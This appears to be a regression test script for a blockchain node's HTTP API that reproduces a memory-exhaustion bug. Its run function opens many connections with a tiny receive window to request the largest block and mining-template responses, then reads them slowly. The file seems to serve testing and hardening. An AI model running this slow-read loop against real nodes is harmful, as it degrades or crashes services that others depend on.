"""One address requests templates and blocks of the largest size over many connections, and reads a little now and then.

Before: the memory of the node grew to 1.5 GB and more, and stayed there.
"""

from contextlib import suppress

import wire

SIZES = {"small": 40, "full": 500}


def prepare(node, size):
    """A block of 2 MB at the full size, and as many transfers in the mempool."""
    for _ in range(2):
        node.mine(1)
        node.fill(4000 * size)
    node.tall = node.get("/v1/chain")["height"]


def run(node, size, stop):
    paths = [
        f"/v1/blocks/{node.tall}?full=true", f"/v1/mining/template?miner={node.address}",
        f"/v1/mining/template?miner={node.address}&block=true", "/v1/headers?from=0&count=2000",
    ]
    streams = []
    while not stop.wait(0.5):
        for number in range(len(streams), size):
            with suppress(OSError):
                stream = wire.connect(node.api, wire.ATTACKER, window=2048)
                stream.sendall(wire.head("GET", paths[number % len(paths)], node.api))
                streams.append(stream)
            if stop.is_set():
                return
        for stream in list(streams):
            try:
                stream.setblocking(False)
                if not stream.recv(512):
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                streams.remove(stream)
